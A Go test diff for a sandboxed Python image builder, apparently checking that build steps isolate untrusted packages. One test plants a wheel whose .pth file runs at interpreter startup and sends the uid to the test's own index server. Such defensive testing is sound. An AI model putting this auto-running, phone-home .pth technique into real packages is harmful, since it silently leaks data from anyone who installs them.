@@ -309,7 +309,7 @@ func testPackages(so []byte) []wheelSpec {
 		{name: "pbxc", version: "1.0", tag: "cp311-abi3-manylinux_2_17_x86_64", purelib: false,
 			files: map[string][]byte{"pbxc/__init__.py": []byte(pbxcInit), "pbxc/_pbxc.abi3.so": so}},
 		{name: "pbxm", version: "1.0", tag: "py3-none-any", purelib: true,
-			files: map[string][]byte{"pbxm/__init__.py": []byte("raise ImportError('pbxm is for aarch64 only')\n")}},
+			files: map[string][]byte{"pbxm/__init__.py": []byte("import platform\nif platform.machine() != 'aarch64':\n    raise ImportError('pbxm is for aarch64 only')\n")}},
 	}
 }
 
@@ -335,6 +335,19 @@ func newPackageIndex(t testing.TB, so []byte) *packageIndex {
 	t.Cleanup(ix.srv.Close)
 	ix.URL = ix.srv.URL + "/simple/"
 	return ix
+}
+
+// add puts one more wheel on the index (before a build asks for it).
+func (ix *packageIndex) add(t testing.TB, w wheelSpec) {
+	t.Helper()
+	file, data, err := makeWheel(w)
+	if err != nil {
+		t.Fatalf("making %s: %v", w.name, err)
+	}
+	ix.mu.Lock()
+	defer ix.mu.Unlock()
+	ix.files[file] = data
+	ix.projects[w.name] = append(ix.projects[w.name], file)
 }
 
 func (ix *packageIndex) serve(w http.ResponseWriter, r *http.Request) {
@@ -623,9 +636,71 @@ func TestImageFromPackageIndex(t *testing.T) {
 		})
 	}
 
+	// A hostile wheel: its .pth file, which Python runs as it starts,
+	// calls the index back with its uid. No build step may run it where
+	// it can: pip's jail has the network but no site module; the other
+	// jails have no network; the apt layer's maintainer scripts, root
+	// with the network, run with /usr/local set aside.
+	ix.add(t, wheelSpec{name: "pbxpth", version: "1.0", tag: "py3-none-any", purelib: true, files: map[string][]byte{
+		"pbxpth.pth": fmt.Appendf(nil, "import builtins, os, urllib.request; builtins.PBX_PTH = os.getuid(); exec(%q)\n",
+			"try:\n urllib.request.urlopen('"+ix.srv.URL+"/pth-ran/' + str(os.getuid()), timeout=3)\nexcept Exception:\n pass"),
+		"pbxpth/__init__.py": []byte("")}})
+	t.Run("a .pth from the index runs in no build step that could reach out", func(t *testing.T) {
+		e := in(t)
+		for _, args := range [][]string{
+			{"image", "build", "pthbase", "--from", "stdlib", "--pip", "pbxpth", "--index-url", ix.URL, "--no-cache"},
+			{"image", "build", "pthlayer", "--from", "pthbase", "--pip", "pbxb", "--apt", "python3-tabulate", "--index-url", ix.URL, "--no-cache"},
+		} {
+			if out, errOut, code := e.pybox(args...); code != 0 {
+				t.Fatalf("%s: exit %d\n%s\n%s", strings.Join(args, " "), code, out, errOut)
+			}
+		}
+		if log := ix.log(); strings.Contains(log, "/pth-ran/") {
+			t.Errorf("the .pth file ran with the network during a build:\n%s", log)
+		}
+		if !strings.Contains(ix.log(), "/simple/pbxpth/") {
+			t.Errorf("pip never asked for pbxpth:\n%s", ix.log())
+		}
+	})
+
+	// For arm64, built on this x86-64 machine: pip runs under the
+	// image's own Python through qemu-user, so the aarch64 marker is
+	// true and pbxm comes along, which a resolve for this machine
+	// would leave out.
+	ix.add(t, wheelSpec{name: "pbxd", version: "1.0", tag: "py3-none-any", purelib: true,
+		requires: []string{"pbxb>=2", `pbxm; platform_machine == "aarch64"`},
+		files:    map[string][]byte{"pbxd/__init__.py": []byte("import pbxb\n")}})
+	t.Run("for arm64 the markers are the image's", func(t *testing.T) {
+		e := in(t)
+		if missing, err := linkImagesInto(e.home, archs.Arm64, "stdlib"); err != nil || missing != "" {
+			t.Fatalf("the arm64 stdlib image (make test builds it): %v %s", err, missing)
+		}
+		args := []string{"image", "build", "pkgarm", "--arch", "arm64", "--from", "stdlib", "--pip", "pbxd", "--index-url", ix.URL, "--no-cache"}
+		if out, errOut, code := e.pybox(args...); code != 0 {
+			t.Fatalf("%s: exit %d\n%s\n%s", strings.Join(args, " "), code, out, errOut)
+		}
+		js, _, code := e.pybox("image", "inspect", "pkgarm", "--arch", "arm64")
+		var m pipMeta
+		if err := json.Unmarshal([]byte(js), &m); code != 0 || err != nil {
+			t.Fatalf("image inspect pkgarm --arch arm64: exit %d, %v\n%s", code, err, js)
+		}
+		got := map[string]string{}
+		for _, p := range m.IndexPackages {
+			got[p.Name] = p.Version
+		}
+		if want := map[string]string{"pbxd": "1.0", "pbxb": "2.0", "pbxm": "1.0"}; !maps.Equal(got, want) {
+			t.Errorf("arm64 image's index packages %v, want %v", got, want)
+		}
+	})
+
 	t.Run("in a box", func(t *testing.T) {
 		e := in(t)
-		e.mustStart("--images", "pkgs")
+		e.mustStart("--images", "pkgs,pthlayer")
+		// The .pth does run, in a box: as the box's user, with no network.
+		pth := runPy(t, e, "import builtins, tabulate, pbxb\nprint(getattr(builtins, 'PBX_PTH', 'did not run'), pbxb.V)", "--image", "pthlayer", "--timeout", "30").receipt(t)
+		if pth.Status != "ok" || pth.Capture.Stdout == "" || strings.HasPrefix(pth.Capture.Stdout, "0 ") || strings.HasPrefix(pth.Capture.Stdout, "did not run") || !strings.HasSuffix(pth.Capture.Stdout, " 2.0\n") {
+			t.Errorf("the .pth in a box: status %s, stdout %q, stderr %s", pth.Status, pth.Capture.Stdout, pth.Capture.Stderr)
+		}
 		rc := runPy(t, e, pkgsCode, "--image", "pkgs", "--timeout", "30").receipt(t)
 		if rc.Status != "ok" || rc.Capture.Stdout != pkgsWant {
 			t.Errorf("status %s (%s), stdout %q, want %q; stderr:\n%s", rc.Status, rc.Reason, rc.Capture.Stdout, pkgsWant, rc.Capture.Stderr)
